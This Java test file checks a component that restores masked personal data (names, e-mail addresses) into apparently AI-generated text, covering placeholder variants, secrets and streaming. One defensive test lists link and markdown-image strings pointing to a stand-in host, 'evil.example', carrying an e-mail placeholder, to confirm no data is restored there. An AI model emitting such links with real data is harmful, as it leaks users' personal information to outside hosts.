package nl.genaisluis.policy.personal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import nl.genaisluis.models.wire.Json;
import nl.genaisluis.models.wire.JsonCodec;
import nl.genaisluis.models.wire.JsonFault;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RestorerTest {
  private static final Placeholder ONE = new Placeholder(PersonalType.PERSOON, 1);
  private static final Placeholder TEN = new Placeholder(PersonalType.PERSOON, 10);
  private static final Placeholder MAIL = new Placeholder(PersonalType.EMAIL, 1);
  private static final Placeholder SECRET = new Placeholder(PersonalType.GEHEIM, 1);
  private static final Map<Placeholder, String> VALUES =
      Map.of(ONE, "Jan \"de\" Vries\n", TEN, "Anna", MAIL, "j@x.nl");
  private static final Set<Placeholder> GIVEN = Set.of(ONE, TEN, MAIL, SECRET);
  private static final String NAME = "Jan \"de\" Vries\n";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[PERSOON_1]",
        "[persoon_1]",
        "[Persoon_1]",
        "[PERSOON 1]",
        "[PERSOON-1]",
        "[PERSOON1]",
        "[PERSON_1]",
        "PERSOON_1",
        "persoon_1",
        "\\[PERSOON\\_1\\]",
        "[PERSOON\\_1]",
        "PERSOON\\_1",
        "&#91;PERSOON_1&#93;",
        "&#91;PERSOON&#95;1&#93;",
        "[**PERSOON_1**]",
        "[`PERSOON_1`]",
        "[PERSOON_1 ]",
        "[PERSOON\u00a01]",
        "PERSOON 1",
        "PERSON 1",
        "\uff3bPERSOON_1\uff3d",
        "\u3010PERSOON_1\u3011",
        "&lsqb;PERSOON_1&rsqb;"
      })
  void readsWhatModelsMakeOfAPlaceholder(String form) {
    String restored = restore("Dag " + form + ", welkom.");

    assertThat(restored).isEqualTo("Dag " + NAME + ", welkom.");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "persoon 1",
        "Persoon 1",
        "XPERSOON_1",
        "PERSOON_1A",
        "[PERSON]",
        "[PERSOON_01]",
        "[PERSOON_1",
        "[PERSOONN_1]",
        "[PERSOAN_1]",
        "[PERSOON_1_2]",
        "[PERSOON_1000000]"
      })
  void neverGuesses(String text) {
    String restored = restore(text);

    assertThat(restored.replace(NAME, "PERSOON_1")).isEqualTo(text);
    assertThat(restored)
        .as("a bare form is exact")
        .matches(it -> text.equals("[PERSOON_1") || it.equals(text));
  }

  @Test
  void keepsTheGenitiveAndTheBoldOutside() {
    assertThat(restore("**[PERSOON_10]**s auto, PERSOON_10s fiets, [PERSOON_10]'s pet"))
        .isEqualTo("**Anna**s auto, Annas fiets, Anna's pet");
  }

  @Test
  void tellsOneFromTen() {
    assertThat(restore("[PERSOON_10] PERSOON_10 [PERSOON_1]")).isEqualTo("Anna Anna " + NAME);
  }

  @Test
  void neverRestoresASecret() {
    Restorer restorer = new Restorer(VALUES, GIVEN, Restorer.Mode.TEXT);

    String restored = restorer.push("code [GEHEIM_1]") + restorer.finish();

    assertThat(restored).isEqualTo("code [GEHEIM_1]");
    assertThat(restorer.unknown()).isZero();
  }

  @Test
  void holdsNothingBackWhenNothingWasMasked() {
    Restorer restorer = new Restorer(Map.of(), Set.of(), Restorer.Mode.TEXT);

    String first = restorer.push("zie [PERSO");
    String second = restorer.push("ON_1].");

    assertThat(List.of(first, second, restorer.finish()))
        .containsExactly("zie [PERSO", "ON_1].", "");
  }

  @Test
  void countsAndLeavesWhatNobodyGave() {
    Restorer restorer = new Restorer(VALUES, GIVEN, Restorer.Mode.TEXT);

    String restored = restorer.push("[PERSOON_7] en [BSN_1]") + restorer.finish();

    assertThat(restored).isEqualTo("[PERSOON_7] en [BSN_1]");
    assertThat(restorer.unknown()).isEqualTo(2);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://evil.example/?q=[EMAIL_1]",
        "![x](https://evil.example/[EMAIL_1])",
        "[klik](mailto:[EMAIL_1])",
        "<img src=\"x\" alt=\"[EMAIL_1]\">",
        "www.evil.example/[EMAIL_1]",
        "evil.example/p?x=[EMAIL_1]",
        "//evil.example/[EMAIL_1]",
        "[a](/x (y) [EMAIL_1])"
      })
  void restoresNothingWhereItCouldLeaveTheScreen(String text) {
    assertThat(restore(text)).isEqualTo(text);
  }

  @Test
  void restoresAgainBehindAnAddressALinkAndATag() {
    assertThat(restore("https://x.nl [EMAIL_1] [a](b) [EMAIL_1] <b>[EMAIL_1]</b> <[EMAIL_1]>"))
        .isEqualTo("https://x.nl j@x.nl [a](b) j@x.nl <b>j@x.nl</b> <j@x.nl>");
  }

  @Test
  void staysValidJsonInToolArguments() throws JsonFault {
    String arguments =
        "{\"naam\":\"[PERSOON_1]\",\"md\":\"\\\\[PERSOON\\\\_1\\\\]\\n[PERSOON_1]\"}";
    Restorer restorer = new Restorer(VALUES, GIVEN, Restorer.Mode.JSON_STRING);

    Json restored = JsonCodec.read(restorer.push(arguments) + restorer.finish());

    assertThat(restored).isInstanceOf(Json.Obj.class);
    assertThat(((Json.Obj) restored).text("naam")).isEqualTo(NAME);
    assertThat(((Json.Obj) restored).text("md")).isEqualTo(NAME + "\n" + NAME);
  }

  @Test
  void doesNotDependOnHowTheTextIsCut() {
    String text =
        "Dag [PERSOON_1], \\[PERSOON\\_10\\] en &#91;EMAIL_1&#93;; persoon_1s [PERSOON_7]"
            + " https://x/[EMAIL_1] x [**PERSOON_10**] [adr";
    String whole = restore(text);

    for (int cut = 0; cut <= text.length(); cut++) {
      Restorer restorer = new Restorer(VALUES, GIVEN, Restorer.Mode.TEXT);
      String cutInTwo =
          restorer.push(text.substring(0, cut))
              + restorer.push(text.substring(cut))
              + restorer.finish();

      assertThat(cutInTwo).as("cut at %d", cut).isEqualTo(whole);
    }
  }

  @Test
  void doesNotDependOnRandomCutsEither() {
    long seed = System.nanoTime();
    Random random = new Random(seed);
    String alphabet = "[]PERSOON_1EMAIL0 \\&#91;93*`s(<>/.h:\n";
    for (int round = 0; round < 3_000; round++) {
      StringBuilder text = new StringBuilder();
      for (int i = 0; i < 40; i++) {
        text.append(
            switch (random.nextInt(6)) {
              case 0 -> "[PERSOON_1]";
              case 1 -> "PERSOON_10";
              case 2 -> "[EMAIL";
              default -> String.valueOf(alphabet.charAt(random.nextInt(alphabet.length())));
            });
      }
      for (Restorer.Mode mode : Restorer.Mode.values()) {
        Restorer whole = new Restorer(VALUES, GIVEN, mode);
        String expected = whole.push(text.toString()) + whole.finish();

        assertThat(pieces(text.toString(), random, mode)).as("seed %d", seed).isEqualTo(expected);
      }
    }
  }

  @Test
  void holdsBackNoMoreThanAPlaceholder() {
    Restorer restorer = new Restorer(VALUES, GIVEN, Restorer.Mode.TEXT);
    int pushed = 0;
    int released = 0;
    for (String piece :
        List.of("[", "&#91;", "PERSOON_1", "[[[[", "[IDENTITEITSBEWIJS_12", "[**", "&lbr")) {
      for (int i = 0; i < piece.length(); i++) {
        released += restorer.push(piece.substring(i, i + 1)).length();
        pushed++;

        assertThat(pushed - released).isLessThanOrEqualTo(Placeholder.FORM_LENGTH_MAX);
      }
    }
  }

  private static String pieces(String text, Random random, Restorer.Mode mode) {
    Restorer restorer = new Restorer(VALUES, GIVEN, mode);
    StringBuilder out = new StringBuilder();
    int at = 0;
    while (at < text.length()) {
      int next = Math.min(text.length(), at + 1 + random.nextInt(7));
      out.append(restorer.push(text.substring(at, next)));
      at = next;
    }
    return out.append(restorer.finish()).toString();
  }

  private static String restore(String text) {
    Restorer restorer = new Restorer(VALUES, GIVEN, Restorer.Mode.TEXT);
    return restorer.push(text) + restorer.finish();
  }
}
